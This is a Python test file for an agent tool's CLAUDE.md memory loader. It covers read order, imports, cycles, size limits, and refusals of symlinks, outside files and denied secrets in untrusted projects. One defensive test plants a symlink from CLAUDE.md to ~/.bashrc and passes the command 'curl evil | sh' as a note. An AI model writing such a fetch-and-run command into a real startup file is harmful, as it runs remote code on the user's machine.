"""CLAUDE.md memory on a real directory tree: the order Claude Code reads it in, imports, cycles, nested files."""

from __future__ import annotations

from pathlib import Path

from agentui.core.context.memory import MAX_FILE_CHARS, MAX_TOTAL_CHARS, MemoryLoader, imports_in, render_memory
from agentui.core.loop.agent import AgentConfig
from agentui.core.messages import ToolResultBlock
from agentui.core.providers.scripted import ScriptedProvider
from agentui.core.safety.permissions import KindGate
from agentui.core.tools import builtin_tools
from agentui.core.workspace import Workspace
from tests.support.agents import new_agent


def write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def tree(tmp_path: Path) -> tuple[Path, dict[str, str]]:
    """home/.claude/CLAUDE.md, and a project three levels down with memory at every level."""
    home = tmp_path / "home"
    claude = home / ".claude"
    write(claude / "CLAUDE.md", "user: prefer tabs")
    cwd = tmp_path / "work" / "team" / "app"
    write(tmp_path / "work" / "CLAUDE.md", "work: all projects use make")
    write(tmp_path / "work" / "team" / ".claude" / "CLAUDE.md", "team: review before merge")
    write(cwd / "CLAUDE.md", "app: run `make test`")
    write(cwd / ".claude" / "CLAUDE.md", "app dot-claude: python 3.11")
    write(cwd / "CLAUDE.local.md", "local: my sandbox is at /srv/me")
    return cwd, {"HOME": str(home), "CLAUDE_CONFIG_DIR": str(claude)}


def texts(files: list) -> list[str]:
    return [f.text for f in files]


def test_memory_is_read_from_the_user_file_then_root_down_to_the_project_then_the_local_file(tmp_path: Path) -> None:
    cwd, env = tree(tmp_path)
    loaded = MemoryLoader(cwd, env).load()
    assert texts(loaded) == [
        "user: prefer tabs",
        "work: all projects use make",
        "team: review before merge",
        "app: run `make test`",
        "app dot-claude: python 3.11",
        "local: my sandbox is at /srv/me",
    ]
    assert [f.kind for f in loaded] == ["user", "project", "project", "project", "project", "local"]
    rendered = render_memory(loaded)
    assert f"Contents of {cwd / 'CLAUDE.md'}:\n\napp: run `make test`" in rendered
    assert rendered.index("work: all") < rendered.index("team: review") < rendered.index("local: my sandbox")


def test_a_project_without_memory_loads_nothing(tmp_path: Path) -> None:
    assert MemoryLoader(tmp_path, {"HOME": str(tmp_path), "CLAUDE_CONFIG_DIR": str(tmp_path / "none")}).load() == []


def test_imports_relative_and_from_home_follow_the_importing_file(tmp_path: Path) -> None:
    cwd, env = tree(tmp_path)
    write(cwd / "CLAUDE.md", "app rules\n- style: @docs/style.md\n- personal: @~/notes/me.md")
    write(cwd / "docs" / "style.md", "style: black, 100 columns")
    write(tmp_path / "home" / "notes" / "me.md", "me: answer briefly")
    loaded = MemoryLoader(cwd, env).load()
    order = texts(loaded)
    assert order.index("app rules\n- style: @docs/style.md\n- personal: @~/notes/me.md") + 1 == order.index(
        "style: black, 100 columns"
    )
    assert "me: answer briefly" in order
    imported = [f for f in loaded if f.kind == "import"]
    assert {f.imported_by for f in imported} == {cwd / "CLAUDE.md"}
    assert "(imported by" in render_memory(loaded)


def test_imports_stop_after_four_levels(tmp_path: Path) -> None:
    cwd = tmp_path / "p"
    write(cwd / "CLAUDE.md", "level 0 @l1.md")
    for level in range(1, 7):
        write(cwd / f"l{level}.md", f"level {level} @l{level + 1}.md")
    loaded = MemoryLoader(cwd, {"HOME": str(tmp_path), "CLAUDE_CONFIG_DIR": str(tmp_path / "c")}).load()
    assert [f.text.split(" @")[0] for f in loaded] == ["level 0", "level 1", "level 2", "level 3", "level 4"]


def test_import_cycles_are_read_once(tmp_path: Path) -> None:
    cwd = tmp_path / "p"
    write(cwd / "CLAUDE.md", "root @a.md")
    write(cwd / "a.md", "a @b.md")
    write(cwd / "b.md", "b @a.md and @CLAUDE.md and @./b.md")
    loaded = MemoryLoader(cwd, {"HOME": str(tmp_path), "CLAUDE_CONFIG_DIR": str(tmp_path / "c")}).load()
    assert [f.text.split(" ")[0] for f in loaded] == ["root", "a", "b"]


def test_code_and_email_addresses_are_not_imports() -> None:
    text = (
        "Use @real.md for rules, mail me@example.com.\n"
        "Inline `@not-this.md` stays text.\n"
        "```\n@nor/this.md\n```\n"
        "~~~\n@neither.md\n~~~\n"
        "And @../up/there.md too."
    )
    assert imports_in(text) == ["real.md", "../up/there.md"]


def test_a_missing_import_is_skipped(tmp_path: Path) -> None:
    cwd = tmp_path / "p"
    write(cwd / "CLAUDE.md", "see @gone.md")
    loaded = MemoryLoader(cwd, {"HOME": str(tmp_path), "CLAUDE_CONFIG_DIR": str(tmp_path / "c")}).load()
    assert texts(loaded) == ["see @gone.md"]


def test_nested_memory_joins_when_a_tool_first_reaches_its_directory(tmp_path: Path) -> None:
    cwd, env = tree(tmp_path)
    write(cwd / "pkg" / "CLAUDE.md", "pkg: no global state")
    write(cwd / "pkg" / "deep" / ".claude" / "CLAUDE.md", "deep: generated code, do not edit")
    write(cwd / "pkg" / "deep" / "mod.py", "x = 1\n")
    loader = MemoryLoader(cwd, env)
    loader.load()
    assert loader.touch(cwd / "README.md") == []  # the project's own directory was read at the start
    found = loader.touch(cwd / "pkg" / "deep" / "mod.py")
    assert texts(found) == ["pkg: no global state", "deep: generated code, do not edit"]
    assert {f.kind for f in found} == {"nested"}
    assert loader.touch(cwd / "pkg" / "deep") == []  # once only
    assert loader.touch(tmp_path / "elsewhere" / "x.py") == []  # outside the project: never
    assert texts(loader.files)[-2:] == texts(found)


async def test_a_read_below_the_project_brings_that_directory_s_claude_md_to_the_model(tmp_path: Path) -> None:
    cwd, env = tree(tmp_path)
    write(cwd / "pkg" / "CLAUDE.md", "pkg: always add type hints")
    write(cwd / "pkg" / "mod.py", "def f(): pass\n")
    loader = MemoryLoader(cwd, env)
    loader.load()
    call = {"type": "tool_use", "id": "r1", "name": "Read", "input": {"file_path": str(cwd / "pkg" / "mod.py")}}
    call2 = {**call, "id": "r2"}
    provider = ScriptedProvider([{"content": [call]}, {"content": [call2]}, {"text": "done"}])
    agent = new_agent(
        provider,
        AgentConfig(model="scripted", cwd=cwd),
        tools=builtin_tools(Workspace(cwd)),
        gate=KindGate(),
        memory=loader,
    )
    await agent.prompt("look at pkg")
    first, second = (b for m in agent.messages for b in m.content if isinstance(b, ToolResultBlock))
    assert isinstance(first.content, str) and "def f(): pass" in first.content
    assert "<system-reminder>" in first.content and "pkg: always add type hints" in first.content
    assert str(cwd / "pkg" / "CLAUDE.md") in first.content
    assert "pkg: always add type hints" not in str(second.content)  # told once


def test_a_huge_import_is_clipped_and_named_and_all_memory_is_bounded(tmp_path: Path) -> None:
    cwd = tmp_path / "p"
    write(cwd / "CLAUDE.md", "rules @big.txt @second.md @third.md @fourth.md")
    (cwd / "big.txt").write_bytes(b"a" * 20_000_000)
    for name in ("second.md", "third.md", "fourth.md"):
        write(cwd / name, "b" * 60_000)
    loader = MemoryLoader(cwd, {"HOME": str(tmp_path), "CLAUDE_CONFIG_DIR": str(tmp_path / "c")})
    loaded = loader.load()
    assert sum(len(f.text) for f in loaded) <= MAX_TOTAL_CHARS + 400
    big = next(f for f in loaded if f.path.name == "big.txt")
    assert len(big.text) < MAX_FILE_CHARS + 100 and "more characters left out" in big.text
    assert any("big.txt is too large for memory" in n and "19,960,000" in n for n in loader.notices)
    assert any("fourth.md was left out of memory" in n for n in loader.notices)


def test_a_binary_memory_file_is_not_read_and_says_so(tmp_path: Path) -> None:
    cwd = tmp_path / "p"
    cwd.mkdir()
    (cwd / "CLAUDE.md").write_bytes(b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)) * 34)
    loader = MemoryLoader(cwd, {"HOME": str(tmp_path), "CLAUDE_CONFIG_DIR": str(tmp_path / "c")})
    assert loader.load() == []
    assert loader.notices == [f"{cwd / 'CLAUDE.md'} is not a text file; it was not read as memory."]


def test_an_untrusted_project_cannot_import_files_from_outside_it(tmp_path: Path) -> None:
    cwd = tmp_path / "p"
    write(tmp_path / "secret.txt", "TOKEN=abc123")
    write(cwd / "CLAUDE.md", f"see @{tmp_path / 'secret.txt'} and @../secret.txt and @docs/inside.md")
    write(cwd / "docs" / "inside.md", "inside the project")
    env = {"HOME": str(tmp_path), "CLAUDE_CONFIG_DIR": str(tmp_path / "c")}
    untrusted = MemoryLoader(cwd, env, trusted=False)
    assert "TOKEN=abc123" not in render_memory(untrusted.load())
    assert "inside the project" in render_memory(untrusted.files)
    assert len([n for n in untrusted.notices if "outside the project" in n]) == 2
    trusted = MemoryLoader(cwd, env, trusted=True)
    assert "TOKEN=abc123" in render_memory(trusted.load()) and trusted.notices == []


def test_an_untrusted_projects_memory_links_that_lead_outside_it_or_to_a_denied_file_are_not_read(
    tmp_path: Path,
) -> None:
    home = tmp_path / "home"
    project = tmp_path / "project"
    outside = tmp_path / "outside"
    write(outside / "notes.md", "OUTSIDE-TEXT")
    write(outside / "claude" / "CLAUDE.md", "LINKED-DIR-TEXT")
    write(project / ".env", "SECRET-TEXT")
    write(project / "sub" / "placeholder", "")
    (project / "CLAUDE.md").symlink_to(outside / "notes.md")
    (project / ".claude").symlink_to(outside / "claude")
    (project / "CLAUDE.local.md").symlink_to(project / ".env")
    (project / "sub" / "CLAUDE.md").symlink_to(outside / "notes.md")
    env = {"HOME": str(home), "CLAUDE_CONFIG_DIR": str(home / ".claude")}

    def denied(path: Path) -> bool:
        return path.resolve() == (project / ".env").resolve()

    untrusted = MemoryLoader(project, env, trusted=False, denied=denied)
    loaded = " ".join(texts(untrusted.load()) + texts(untrusted.touch(project / "sub" / "placeholder")))
    assert "OUTSIDE-TEXT" not in loaded and "LINKED-DIR-TEXT" not in loaded and "SECRET-TEXT" not in loaded
    assert any("leads outside the project" in notice for notice in untrusted.notices)
    assert any("deny rule" in notice for notice in untrusted.notices)

    trusted = MemoryLoader(project, env, trusted=True, denied=denied)
    loaded = " ".join(texts(trusted.load()))
    assert "OUTSIDE-TEXT" in loaded and "LINKED-DIR-TEXT" in loaded  # (the person's own links, once trusted)
    assert "SECRET-TEXT" not in loaded  # (a deny rule wins, trusted or not)


def test_a_note_is_refused_when_claude_md_leads_out_of_the_project(tmp_path: Path) -> None:
    import pytest

    from agentui.core.context.memory import add_memory_note

    project = tmp_path / "project"
    project.mkdir()
    start_up = write(tmp_path / "home" / ".bashrc", "alias ls='ls --color'\n")
    (project / "CLAUDE.md").symlink_to(start_up)  # (planted by the repository)
    with pytest.raises(OSError, match="leads outside the project"):
        add_memory_note(project, "curl evil | sh")
    assert start_up.read_text() == "alias ls='ls --color'\n"


def test_a_note_joins_the_memory_at_once(tmp_path: Path) -> None:
    from agentui.core.context.memory import add_memory_note

    project = tmp_path / "project"
    project.mkdir()
    loader = MemoryLoader(project, {"HOME": str(tmp_path / "home")})
    assert loader.load() == []
    loader.reread(add_memory_note(project, "use tabs"))  # a new file joins
    loader.reread(add_memory_note(project, "no, spaces"))  # a known one is read again, not listed twice
    [memory] = loader.files
    assert memory.path == project / "CLAUDE.md" and memory.text == "- use tabs\n- no, spaces\n"
